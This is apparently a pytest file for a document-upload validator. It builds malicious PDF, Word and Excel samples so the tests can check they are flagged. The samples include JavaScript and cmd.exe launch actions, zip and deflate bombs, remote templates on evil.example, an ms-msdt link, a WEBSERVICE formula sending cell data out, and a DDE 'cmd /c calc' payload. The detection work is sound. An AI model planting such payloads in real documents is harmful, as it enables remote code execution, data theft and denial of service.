"""What real programs lock, pack and link in documents is judged as if it stood there openly."""

import gzip
import io
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from fpdf import FPDF
from openpyxl import Workbook

from services.validator.checks import format as format_check
from services.validator.checks import personal_data
from services.validator.domain import Specimen
from tests.unit.validator import samples

CODE = "161175-19997"
LOCKS = [
    pikepdf.Encryption(owner="owner", user="", R=revision, aes=revision >= 4, metadata=revision >= 4)
    for revision in (2, 3, 4, 6)
]


def specimen(path: Path, name: str | None = None) -> Specimen:
    return Specimen(path=str(path), name=name or path.name, size=path.stat().st_size)


def judged(path: Path, name: str | None = None) -> set[str]:
    examined = format_check.examine(specimen(path, name))
    assert not examined.error
    return {one.code for one in examined.observations}


def judged_bytes(folder: Path, name: str, data: bytes) -> set[str]:
    (folder / name).write_bytes(data)
    return judged(folder / name)


def locked(folder: Path, lock: pikepdf.Encryption, change: Callable[[pikepdf.Pdf], object] | None = None) -> Path:
    """A PDF that anybody can open and only its owner may change, its objects packed in object streams."""
    document = FPDF()
    document.add_page()
    document.set_font("Helvetica")
    document.cell(text=f"Personas kods {CODE}")
    path = folder / "a.pdf"
    with pikepdf.open(io.BytesIO(document.output())) as pdf:
        if change:
            change(pdf)
        pdf.save(path, encryption=lock, object_stream_mode=pikepdf.ObjectStreamMode.generate, min_version="1.5")
    with pikepdf.open(path, password="owner") as pdf:
        assert pdf.is_encrypted
    return path


def _act(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


def _launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"))


def _attach(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["a.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(60), filename="a.exe")


def _form(pdf: pikepdf.Pdf) -> None:
    parts = [pikepdf.String(name) for name in ("preamble", "template")]
    body = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>"
    parts_and_streams = [one for part in parts for one in (part, pdf.make_stream(body))]
    pdf.Root.AcroForm = pdf.make_indirect(
        pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.Array(parts_and_streams))
    )


def _burst(pdf: pikepdf.Pdf) -> None:
    packed = pikepdf.Stream(pdf, zlib.compress(bytes(280 << 20), 1), Filter=pikepdf.Name.FlateDecode)
    pdf.Root.Extra = pdf.make_indirect(packed)


@pytest.mark.parametrize("lock", LOCKS, ids=["rc4-40", "rc4-128", "aes-128", "aes-256"])
def test_a_pdf_that_only_its_owner_may_change_is_read_like_any_other(lock: pikepdf.Encryption, tmp_path: Path) -> None:
    path = locked(tmp_path, lock)
    found = {one.code for one in personal_data.examine(specimen(path)).observations}

    assert judged(path) == set()
    assert "national-id" in found


@pytest.mark.parametrize("lock", LOCKS, ids=["rc4-40", "rc4-128", "aes-128", "aes-256"])
@pytest.mark.parametrize(
    ("change", "code"),
    [(_act, "pdf-javascript"), (_launch, "pdf-launch"), (_attach, "embedded-files"), (_form, "pdf-xfa")],
)
def test_what_acts_in_a_locked_pdf_is_found(
    lock: pikepdf.Encryption, change: Callable[[pikepdf.Pdf], object], code: str, tmp_path: Path
) -> None:
    assert judged(locked(tmp_path, lock, change)) == {code}


def test_a_bomb_in_a_locked_pdf_is_found(tmp_path: Path) -> None:
    assert judged(locked(tmp_path, LOCKS[-1], _burst)) == {"archive-bomb"}


def test_a_pdf_that_asks_for_a_password_is_encrypted(tmp_path: Path) -> None:
    assert judged(locked(tmp_path, pikepdf.Encryption(owner="owner", user="user", R=6))) == {"encrypted"}


@pytest.mark.parametrize("packed", [True, False])
def test_a_form_of_xfa_is_found_in_an_open_pdf(packed: bool, tmp_path: Path) -> None:
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    with pikepdf.open(io.BytesIO(samples.content("pdf"))) as pdf:
        _form(pdf)
        pdf.save(tmp_path / "a.pdf", object_stream_mode=mode)

    assert judged(tmp_path / "a.pdf") == {"pdf-xfa"}


def test_a_form_without_xfa_is_no_finding(tmp_path: Path) -> None:
    with pikepdf.open(io.BytesIO(samples.content("pdf"))) as pdf:
        pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array()))
        pdf.save(tmp_path / "a.pdf")

    assert judged(tmp_path / "a.pdf") == set()


@pytest.mark.parametrize("extension", ["doc", "xls", "ppt", "docx"])
def test_objects_that_programs_put_into_documents_are_told_apart(extension: str, tmp_path: Path) -> None:
    """A table that can be edited is remarkable; a packed file is refused."""
    table, package = office(tmp_path, f"object.{extension}"), office(tmp_path, f"package.{extension}")

    assert judged(table) == {"embedded-object"}
    assert judged(package) - {"embedded-object"} == {"ole-package"}


def office(folder: Path, name: str) -> Path:
    if not name.endswith(".ppt"):
        return samples.real(name)
    (folder / name).write_bytes(gzip.decompress(samples.real(f"{name}.gz").read_bytes()))
    return folder / name


@pytest.mark.parametrize("quoted", [True, False])
def test_members_that_share_bytes_are_found_however_small(quoted: bool, tmp_path: Path) -> None:
    (tmp_path / "a.docx").write_bytes(overlapping(quoted=quoted))
    with zipfile.ZipFile(tmp_path / "a.docx") as archive:
        assert archive.testzip() is None
        assert sum(member.file_size for member in archive.infolist()) < 1 << 20

    examined = format_check.examine(specimen(tmp_path / "a.docx"))

    assert [one.params["reason"] for one in examined.observations] == ["its parts overlap"]


def overlapping(*, quoted: bool) -> bytes:
    """The bombs of Fifield: a head is data of the member before it, or lies in the extra field of that one's head."""
    kernel = _deflated(bytes(100_000))
    rest, grown, before = kernel, bytes(100_000), b""
    directory = []
    for number in reversed(range(5)):
        name = f"word/media/{number:0205d}.bin".encode()
        size, extra = (len(rest), 0) if quoted else (len(kernel), len(rest) - len(kernel))
        told = struct.pack("<IIIHH", zlib.crc32(grown), size, len(grown), len(name), extra)
        head = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + told + name
        directory.append((told[:14], name, len(head) + len(rest)))
        before = b"\0" + struct.pack("<HH", len(head), len(head) ^ 0xFFFF) if quoted else struct.pack("<HH", 7, 0)
        rest = before + head + rest
        grown = head + grown if quoted else grown
    return _with_directory(rest[len(before) :], directory)


def _deflated(data: bytes) -> bytes:
    packing = zlib.compressobj(9, wbits=-15)
    return packing.compress(data) + packing.flush()


def _with_directory(body: bytes, members: list[tuple[bytes, bytes, int]]) -> bytes:
    """Put the members behind those of a good document; `members` tell how far from the end of the body they begin."""
    good = io.BytesIO(samples.package("word/document.xml", samples.WORD_MAIN))
    with zipfile.ZipFile(good) as archive:
        start, count = archive.start_dir, len(archive.namelist())
    data = good.getvalue()
    rows = data[start : data.rfind(b"PK\x05\x06")]
    for told, name, back in members:
        at = start + len(body) - back
        rows += b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + told
        rows += struct.pack("<HHHHII", 0, 0, 0, 0, 0, at) + name
    number = count + len(members)
    end = struct.pack("<HHHHIIH", 0, 0, number, number, len(rows), start + len(body), 0)
    return data[:start] + body + rows + b"PK\x05\x06" + end


def _document(folder: Path, kind: str, target: str) -> Path:
    document = Document()
    part = document.part._settings_part if kind == "attachedTemplate" else document.part
    part.relate_to(target, f"{RELATIONSHIP_TYPE.OFFICE_DOCUMENT.rpartition('/')[0]}/{kind}", is_external=True)
    document.save(str(folder / "a.docx"))
    return folder / "a.docx"


@pytest.mark.parametrize(
    ("kind", "target", "code"),
    [
        ("attachedTemplate", "https://evil.example/a.dotm", "remote-code"),
        ("attachedTemplate", "\\\\evil.example\\share\\a.dotm", "remote-code"),
        ("attachedTemplate", "file:///C:/Users/anna/Normal.dotm", "remote-reference"),
        ("oleObject", "https://evil.example/a.html!", "remote-code"),
        ("frame", "https://evil.example/", "remote-code"),
        ("subDocument", "https://evil.example/a.docx", "remote-code"),
        ("image", "https://evil.example/a.png", "remote-reference"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic", "remote-code"),
    ],
)
def test_what_a_word_document_fetches_is_found(kind: str, target: str, code: str, tmp_path: Path) -> None:
    assert judged(_document(tmp_path, kind, target)) == {code}


def test_a_template_of_a_presentation_inside_a_document_is_found(tmp_path: Path) -> None:
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
        'Target="https://evil.example/a.ppa" TargetMode="External"/></Relationships>'
    )
    slides = samples.package("ppt/presentation.xml", main, extra={"ppt/_rels/presentation.xml.rels": relation.encode()})
    inside = samples.package("word/document.xml", samples.WORD_MAIN, extra={"word/embeddings/a.pptx": slides})

    assert judged_bytes(tmp_path, "a.docx", inside) == {"embedded-object", "remote-code"}
    assert judged_bytes(tmp_path, "a.pptx", slides) == {"format-not-allowed"}


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ("='https://evil.example/[a.xlsx]S'!A1", "remote-reference"),
        ('=WEBSERVICE("https://evil.example/?"&A1)', "remote-reference"),
        ('=_xlfn.IMAGE("https://evil.example/a.png")', "remote-reference"),
        ('=RTD("evil.prog","server","x")', "remote-reference"),
        ("=cmd|'/c calc'!A1", "dde"),
    ],
)
def test_what_a_workbook_fetches_is_found(formula: str, code: str, tmp_path: Path) -> None:
    book = Workbook()
    book.active["A2"] = formula
    book.save(tmp_path / "a.xlsx")

    assert judged(tmp_path / "a.xlsx") == {code}


def test_a_sheet_of_macros_is_found_in_a_workbook_that_a_program_wrote(tmp_path: Path) -> None:
    """Its kind stands in one byte, behind the place and the state of the sheet ([MS-XLS] 2.4.28)."""
    data = samples.real("people.xls").read_bytes()
    name = "Slēptā".encode("utf-16-le")
    at = data.find(bytes([6, 1]) + name) - 2
    assert data[at : at + 2] == b"\x01\0"
    hidden = data[:at] + b"\x02\x01" + data[at + 2 :]

    assert judged_bytes(tmp_path, "a.xls", hidden) >= {"macros", "hidden-content"}
    assert judged(samples.real("people.xls")) == {"hidden-content"}


@pytest.mark.parametrize("folder_inside", ["xl/macrosheets", "xl/worksheets", "xl/other"])
def test_a_sheet_of_macros_is_found_wherever_it_lies_in_a_package(folder_inside: str, tmp_path: Path) -> None:
    book = Workbook()
    book.create_sheet("Macro")
    book.save(tmp_path / "good.xlsx")
    macro = b"application/vnd.ms-excel.macrosheet+xml"
    with zipfile.ZipFile(tmp_path / "good.xlsx") as good, zipfile.ZipFile(tmp_path / "a.xlsx", "w") as bad:
        for name in good.namelist():
            data = good.read(name)
            if name == "[Content_Types].xml":
                part = b'PartName="/xl/worksheets/sheet2.xml" ContentType="'
                start = data.index(part) + len(part)
                data = data[:start] + macro + data[data.index(b'"', start) :]
                data = data.replace(b"/xl/worksheets/sheet2.xml", f"/{folder_inside}/sheet2.xml".encode())
            bad.writestr(name.replace("xl/worksheets/sheet2.xml", f"{folder_inside}/sheet2.xml"), data)

    assert "macros" in judged(tmp_path / "a.xlsx")


@pytest.mark.parametrize(
    "name",
    [
        "report.exe.pdf", "report.docx.pdf", "report.pdf.pdf", "report.PDF.pdf", "slides.pptx.pdf", "notes.odt.pdf",
        "report.exe .pdf", "report. exe.pdf", "a.b.js.pdf", "a.scr.pdf", "a.vbe.pdf", "a.onepkg.pdf", "a.xlsb.pdf",
        "film.avi.pdf", "a.docm.pdf", "a.lnk.pdf", "a.iso.pdf", "report\u2024exe.pdf", "report\uff0eexe.pdf",
    ],
)  # fmt: skip
def test_a_second_extension_is_refused(name: str, tmp_path: Path) -> None:
    shutil.copy(samples.write(tmp_path, "pdf"), tmp_path / "good.pdf")

    assert judged(tmp_path / "good.pdf", name) == {"double-extension"}


@pytest.mark.parametrize(
    "name", ["1. nodaļa. Ievads.pdf", "v2.0.1.pdf", "Dr. Bērziņš.pdf", "e-Twinning.lv.pdf", "2024.11.25.pdf", "a.b.pdf"]
)
def test_dots_in_a_name_are_no_second_extension(name: str, tmp_path: Path) -> None:
    shutil.copy(samples.write(tmp_path, "pdf"), tmp_path / "good.pdf")

    assert judged(tmp_path / "good.pdf", name) == set()
